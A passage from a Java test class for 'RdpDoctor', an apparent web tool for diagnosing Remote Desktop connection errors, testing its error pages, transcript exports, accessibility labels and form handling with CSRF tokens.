            assertThat(failed.status()).isEqualTo(500);
            assertThat(failed.header("Content-Type")).startsWith("text/html");
            assertThat(failed.header("Content-Security-Policy")).contains("default-src 'self'");
            assertThat(failed.body())
                    .contains("Error 500")
                    .contains("<h1>Internal server error</h1>")
                    .contains("an unexpected error occurred; it has been logged")
                    .contains("href=\"/\">Back to the start</a>")
                    .doesNotContain("disk on fire")
                    .doesNotContain("IllegalStateException");
        }
    }

    @Test
    void an_unavailable_database_shows_the_503_page_and_asks_to_retry() {
        try (RunningApp broken =
                RunningApp.with(
                        new RdpDoctor(
                                rules,
                                storeThatFails(
                                        new StoreUnavailableException(
                                                "connection refused", null))))) {

            Page failed = get(broken, "/");

            assertThat(failed.status()).isEqualTo(503);
            assertThat(failed.header("Retry-After")).isEqualTo("5");
            assertThat(failed.body())
                    .contains("<h1>Service unavailable</h1>")
                    .contains("the session database is unavailable; nothing was changed")
                    .doesNotContain("connection refused");
        }
    }

    @Test
    void the_transcript_page_words_a_withdrawal_and_a_fix_as_the_markdown_does() {
        String session = startSession();
        answer(session, "error-timing", "after-credentials", 1);
        post(
                session + "/withdraw",
                form("_csrf", token(), "questionId", "error-timing", "eventCount", "2"));

        String body = get(session + "/transcript").body();

        assertThat(body)
                .contains("Took back the answer to: <span>" + text(question("error-timing")))
                .doesNotContain("taken back");
    }

    @Test
    void the_transcript_page_shows_the_markdown_and_offers_downloads() {
        String session = startSession("ticketRef", "INC-5000");
        answer(session, "error-message", "credssp-oracle", 1);

        Page transcript = get(session + "/transcript");
        Page markdown = get(session + "/transcript.md");

        assertThat(transcript.status()).isEqualTo(200);
        assertThat(transcript.body())
                .contains("Transcript <span>· INC-5000</span>")
                .contains("data-copy-target=\"markdown\" data-js hidden>Copy as Markdown</button>")
                .contains("<textarea id=\"markdown\"")
                .contains("- Ticket: INC-5000")
                .containsPattern(
                        "<time datetime=\"[^\"]+\">\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d UTC");
        assertThat(markdown.status()).isEqualTo(200);
        assertThat(markdown.header("Content-Type")).startsWith("text/markdown");
        assertThat(markdown.header("Content-Disposition"))
                .isEqualTo("attachment; filename=\"rdp-doctor-" + id(session) + ".md\"");
        assertThat(markdown.body()).contains("- Error code: 0x904");
    }

    @Test
    void the_transcript_of_a_diagnosis_says_it_in_words_with_its_fixes_and_the_ticket_text()
            throws Exception {
        String ticket =
                "The user sees ```CredSSP encryption oracle remediation```\n## not a heading <b>";
        String session = "/sessions/" + id(startSession("ticketText", ticket));
        DiagnosisState state = app.doctor().session(id(session)).state();
        assertThat(state.status()).isEqualTo(DiagnosisState.Status.DIAGNOSED);
        String leader = title(state.leadingCause());
        List<String> left = state.fixes().stream().map(DiagnosisState.FixView::title).toList();

        String page = get(session + "/transcript").body();
        String markdown = get(session + "/transcript.md").body();
        var json =
                new com.fasterxml.jackson.databind.ObjectMapper()
                        .readTree(get(session + "/transcript.json").body());

        assertThat(left).isNotEmpty();
        assertThat(page)
                .contains("<dt>Outcome</dt><dd>" + text("Diagnosis: " + leader + " (likely)"))
                .contains("<dt>Status</dt><dd>Open, a likely cause found, fixes to try</dd>")
                .contains("<pre class=\"ticket-text-full\">" + text(ticket) + "</pre>")
                .contains("<h2>Fixes still to try</h2>");
        StringBuilder numbered = new StringBuilder("### Fixes still to try\n\n");
        for (int i = 0; i < left.size(); i++) {
            numbered.append(i + 1).append(". ").append(left.get(i)).append('\n');
        }
        assertThat(markdown)
                .contains("- Status: open, a likely cause found, fixes to try\n")
                .contains("- Outcome: Diagnosis: " + leader + " (likely)\n")
                .contains(
                        "### Ticket text\n\n````\n"
                                + "The user sees ```CredSSP encryption oracle remediation```\n"
                                + "## not a heading <b>\n````\n")
                .contains(numbered)
                .doesNotContain("(diagnosis: ");
        assertThat(json.get("ticketText").asText()).isEqualTo(ticket);
        assertThat(json.get("outcome").asText()).isEqualTo("Diagnosis: " + leader + " (likely)");
        assertThat(json.get("fixesToTry").findValuesAsText("title")).isEqualTo(left);
        assertThat(json.get("diagnosis").asText()).isEqualTo("diagnosed");
    }

    @Test
    void a_transcript_with_no_cause_standing_out_says_so_in_words() {
        String session = startSession();
        exhausted(id(session));

        String page = get(session + "/transcript").body();
        String markdown = get(session + "/transcript.md").body();

        assertThat(page).contains("<dt>Status</dt><dd>Open, no cause stands out</dd>");
        assertThat(markdown)
                .contains("- Status: open, no cause stands out\n")
                .contains("- Outcome: No diagnosis: no cause stands out")
                .doesNotContain("exhausted");
    }

    @Test
    void
            buttons_and_links_repeated_per_fix_or_answer_are_named_after_their_fix_answer_or_command() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        DiagnosisState state = app.doctor().session(id(session)).state();
        assertThat(state.status()).isEqualTo(DiagnosisState.Status.DIAGNOSED);
        String tried = state.fixes().get(0).fixId();

        String diagnosis = get(session).body();
        app.doctor().apply(id(session), new Event.FixTried(tried, false));
        String afterFix = get(session).body();

        for (DiagnosisState.FixView fix : state.fixes()) {
            assertThat(tags(diagnosis, "button", label("This fixed it: " + fix.title())))
                    .hasSize(1);
            assertThat(tags(diagnosis, "button", label("Didn't help: " + fix.title()))).hasSize(1);
        }
        String question = question("error-message");
        assertThat(tags(diagnosis, "a", label("Change the answer to: " + question))).hasSize(1);
        assertThat(tags(diagnosis, "button", label("Withdraw the answer to: " + question)))
                .hasSize(1);
        List<String> copyButtons = tags(diagnosis, "button", "data-copy ");
        assertThat(copyButtons).isNotEmpty().allMatch(tag -> tag.contains("aria-label=\"Copy "));
        assertThat(copyButtons).doesNotHaveDuplicates();
        assertThat(copyButtons)
                .anyMatch(
                        tag ->
                                tag.contains(
                                        label(
                                                "Copy the command of step 1 of "
                                                        + state.fixes().get(0).title())));
        assertThat(
                        tags(
                                afterFix,
                                "button",
                                label(
                                        "Correct: it fixed it ("
                                                + state.fixes().get(0).title()
                                                + ")")))
                .hasSize(1);
    }

    @Test
    void every_page_starts_with_a_link_that_skips_to_its_main_content() {
        String session = startSession();
        Map<String, String> pages = new LinkedHashMap<>();
        pages.put("start", get("/").body());
        pages.put("session", get(session).body());
        pages.put("transcript", get(session + "/transcript").body());
        pages.put("causes", get("/causes").body());
        pages.put("sources", get("/sources").body());
        pages.put("error", get("/sessions/no-such-session").body());

        assertThat(pages)
                .allSatisfy(
                        (name, html) -> {
                            String body = html.substring(html.indexOf("<body>"));
                            assertThat(body)
                                    .as(name)
                                    .containsPattern(
                                            "^<body>\\s*<header[^>]*>\\s*<a class=\"skip-link\""
                                                    + " href=\"#main\">Skip to the main"
                                                    + " content</a>")
                                    .contains("<main id=\"main\"");
                        });
    }

    /** One response as the test reads it. */
    record Page(int status, HttpHeaders headers, String body) {
        /** The header's first value, or "" when it is absent. */
        String header(String name) {
            return headers.firstValue(name).orElse("");
        }
    }

    /** The start page's form for 0x904/0x7 and {@code ticketRef}, with the page's one-time key. */
    private static Map<String, String> startForm(Page start, String ticketRef) {
        return form(
                "_csrf",
                csrfField(start),
                Pages.START_KEY,
                startKey(start),
                "pair",
                "0x904/0x7",
                "ticketRef",
                ticketRef);
    }

    /** Starts a session for 0x904/0x7 with the given extra fields; returns its page's path. */
    private String startSession(String... fields) {
        Map<String, String> form = form("_csrf", token(), "pair", "0x904/0x7");
        form.putAll(form(fields));
        Page created = post("/sessions", form);
        assertThat(created.status()).as("starting a session: %s", created.body()).isEqualTo(303);
        return created.header("Location");
    }

    /**
     * Answers "I don't know" to every question of the session, then says that each fix it offers
     * did not help, until no cause stands out; returns the session then.
     */
    private static SessionView exhausted(String id) {
        RdpDoctor doctor = app.doctor();
        SessionView session = doctor.session(id);
        while (session.state().status() != DiagnosisState.Status.EXHAUSTED) {
            assertThat(session.eventCount()).as("events so far").isLessThan(100);
            DiagnosisState state = session.state();
            Event next =
                    state.status() == DiagnosisState.Status.ASKING
                            ? new Event.Answered(state.nextQuestion().id(), "unknown")
                            : new Event.FixTried(
                                    state.fixes().stream()
                                            .filter(f -> f.worked() == null)
                                            .findFirst()
                                            .orElseThrow()
                                            .fixId(),
                                    false);
            session = doctor.apply(id, next);
        }
        return session;
    }

    private Page answer(String session, String questionId, String optionId, int eventCount) {
        return post(
                session + "/answer", answerForm(questionId, optionId, String.valueOf(eventCount)));
    }

    /** Says on the session's page whether a fix worked ({@code worked} as the form sends it). */
    private Page fixTried(String session, String fixId, String worked, int eventCount) {
        return post(
                session + "/fix",
                form(
                        "_csrf",
                        token(),
                        "fixId",
                        fixId,
                        "worked",
                        worked,
                        "eventCount",
                        String.valueOf(eventCount)));
    }

    /** The answer form as the page sends it, with this browser's token. */
    private Map<String, String> answerForm(String questionId, String optionId, String eventCount) {
        return form(
                "_csrf",
                token(),
                "questionId",
                questionId,
                "optionId",
                optionId,
                "eventCount",
                eventCount);
    }

    /** This browser's CSRF token, from the hidden field of the start page. */
    private String token() {
        return csrfField(get("/"));
    }

    private static String csrfField(Page page) {
        Matcher field = CSRF_FIELD.matcher(page.body());
        assertThat(field.find()).as("the page has a _csrf field").isTrue();
        return field.group(1);
    }

    /**
     * The hidden fields of the form on {@code page} whose button reads {@code button}, as the
     * browser sends them.
     */
    private static Map<String, String> hiddenFields(String page, String button) {
        int end = page.indexOf(">" + text(button) + "</button>");
        assertThat(end).as("a button reading %s", button).isPositive();
        String form = page.substring(page.lastIndexOf("<form", end), end);
        Map<String, String> fields = new LinkedHashMap<>();
        Pattern.compile("<input type=\"hidden\" name=\"([^\"]+)\" value=\"([^\"]*)\">")
                .matcher(form)
                .results()
                .forEach(m -> fields.put(m.group(1), unescape(m.group(2))));
        return fields;
    }

    private static String unescape(String html) {
        return html.replace("&quot;", "\"")
                .replace("&#39;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&");
    }

    /** The one-time key of the start form on {@code page}. */
    private static String startKey(Page page) {
        Matcher field =
                Pattern.compile("name=\"" + Pages.START_KEY + "\" value=\"([^\"]+)\"")
                        .matcher(page.body());
        assertThat(field.find()).as("the page has a start key").isTrue();
        return field.group(1);
    }

    /** The sessions a page of the session list links to. */
    private static Set<String> sessionLinks(String page) {
        Matcher link = Pattern.compile("<a href=\"(/sessions/[0-9a-f-]{36})\">").matcher(page);
        Set<String> links = new HashSet<>();
        while (link.find()) {
            links.add(link.group(1));
        }
        return links;
    }

    private Page get(String path) {
        return get(app, path);
    }

    private Page get(RunningApp target, String path) {
        return send(HttpRequest.newBuilder(URI.create(target.url(path))).GET().build());
    }

    /**
     * A request to {@code path} that gives up after a while, for an answer that might never come.
     */
    private HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(URI.create(app.url(path))).timeout(Duration.ofSeconds(20));
    }

    private Page post(String path, Map<String, String> form) {
        String body =
                form.entrySet().stream()
                        .map(e -> encode(e.getKey()) + "=" + encode(e.getValue()))
                        .collect(Collectors.joining("&"));
        return send(
                HttpRequest.newBuilder(URI.create(app.url(path)))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build());
    }

    /** Posts {@code body} as a form exactly as given, for bytes an HTTP form would not send. */
    private Page postRaw(String path, byte[] body) {
        return send(
                HttpRequest.newBuilder(URI.create(app.url(path)))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .POST(HttpRequest.BodyPublishers.ofByteArray(body))
                        .build());
    }

    /** Posts {@code body} to the start form with {@code contentType} (null: none). */
    private Page postAs(String contentType, byte[] body) {
        HttpRequest.Builder request =
                HttpRequest.newBuilder(URI.create(app.url("/sessions")))
                        .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        return send(request.build());
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    private Page send(HttpRequest request) {
        return send(browser, request);
    }

    static Page send(HttpClient client, HttpRequest request) {
        try {
            var response = client.send(request, BodyHandlers.ofString());
            return new Page(response.statusCode(), response.headers(), response.body());
        } catch (IOException e) {
            throw new UncheckedIOException(request.method() + " " + request.uri() + " failed", e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(request.uri() + " was interrupted", e);
        }
    }

    /** A client that keeps cookies, as a browser does, and does not follow redirects. */
    static HttpClient newBrowser() {
        return HttpClient.newBuilder()
                .cookieHandler(new CookieManager())
                .followRedirects(HttpClient.Redirect.NEVER)
                .build();
    }

    /** Form fields from name, value pairs, in order. */
    static Map<String, String> form(String... pairs) {
        Map<String, String> form = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            form.put(pairs[i], pairs[i + 1]);
        }
        return form;
    }

    /** A store whose every operation fails with {@code failure}, except closing. */
    private static SessionStore storeThatFails(RuntimeException failure) {
        return (SessionStore)
                Proxy.newProxyInstance(
                        SessionStore.class.getClassLoader(),
                        new Class<?>[] {SessionStore.class},
                        (proxy, method, args) -> {
                            if (method.getName().equals("close")) {
                                return null;
                            }
                            throw failure;
                        });
    }

    /** The opening tags of {@code element} in {@code html} that contain {@code text}. */
    private static List<String> tags(String html, String element, String text) {
        return Pattern.compile("<" + element + "\\b[^>]*>")
                .matcher(html)
                .results()
                .map(MatchResult::group)
                .filter(tag -> tag.contains(text))
                .toList();
    }

    /** A fix's article on a session page, from its id to its end. */
    private static String fixArticle(String page, String fixId) {
        String from = page.substring(page.indexOf("id=\"fix-" + fixId + "\""));
        return from.substring(0, from.indexOf("</article>"));
    }

    /** The id in a session page's path, which may carry a note's query. */
    private static String id(String sessionPath) {
        return sessionPath.substring("/sessions/".length()).replaceFirst("\\?.*", "");
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    /** An {@code aria-label} attribute as Thymeleaf writes it. */
    private static String label(String name) {
        return "aria-label=\"" + text(name) + "\"";
    }

    /** Text as Thymeleaf writes it into HTML. */
    private static String text(String plain) {
        return plain.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace("\"", "&quot;")
                .replace("'", "&#39;");
    }

    /** A page's text as a reader sees it: without tags, each run of white space one space. */
    private static String shown(String html) {
        return html.replaceAll("<[^>]+>", "").replaceAll("\\s+", " ");
    }

    private static KnowledgeBase kb() {
        return rules.knowledge();
    }

    private static String title(String causeId) {
        return kb().cause(causeId).orElseThrow().title();
    }

    private static String question(String questionId) {
        return kb().question(questionId).orElseThrow().text();
    }

    private static String label(String questionId, String optionId) {
        return kb().question(questionId).orElseThrow().option(optionId).orElseThrow().label();
    }
}
